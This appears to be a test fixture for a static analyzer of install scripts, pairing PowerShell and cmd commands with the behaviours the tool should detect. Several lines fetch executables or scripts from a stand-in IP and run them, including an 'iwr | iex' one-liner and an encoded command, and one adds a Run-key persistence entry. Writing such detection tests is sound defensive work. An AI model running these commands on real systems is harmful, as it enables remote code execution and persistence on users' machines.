# --- lines for PowerShell and cmd
powershell -NoProfile -Command "Invoke-WebRequest http://192.0.2.1/a.exe -OutFile a.exe" # want process.shell @install -> "Invoke-WebRequest http://192.0.2.1/a.exe -OutFile a.exe", want net.connect @install -> "http://192.0.2.1/a.exe", want fs.write @install -> "a.exe"
powershell.exe -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4AMQA= # want process.shell @install -> "SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4AMQA=", want net.connect @install -> "http://192.0.2.1"
powershell -c "iwr -useb http://192.0.2.1/x.ps1 | iex" # want process.shell @install, want net.connect @install -> "http://192.0.2.1/x.ps1", want code.eval @install
pwsh -c "(New-Object System.Net.WebClient).DownloadFile('http://192.0.2.1/b','b.exe')" # want process.shell @install, want net.connect @install -> "http://192.0.2.1/b"
cmd.exe /c "curl http://192.0.2.1/c -o c.bat" # want process.shell @install -> "curl http://192.0.2.1/c -o c.bat", want net.connect @install -> "http://192.0.2.1/c", want fs.write @install -> "c.bat"
cmd /c start /b node worker.js # want process.shell @install -> "start", want process.spawn @install -> "worker.js"
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d calc.exe # want system.persist @install -> "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
taskkill /im acme.exe # want process.signal @install -> "acme.exe"
echo powershell -c "iwr http://192.0.2.1/x.ps1"
# --- variables of the environment, and PowerShell's own
pwsh -c 'Remove-Item "$env:TEMP\x.txt"; $gone = "y"; Remove-Item $gone' # want process.shell @install, want fs.delete @install -> "{…}\\x.txt", want fs.delete @install, want env.read @install -> "TEMP"
cmd /c "del %APPDATA%\z.txt & set MODE=fast & del %MODE% %~dp0" # want process.shell @install -> "del %APPDATA%\\z.txt & set MODE=fast & del %MODE% %~dp0", want fs.delete @install -> "{…}/z.txt", want fs.delete @install, want env.read @install -> "APPDATA"
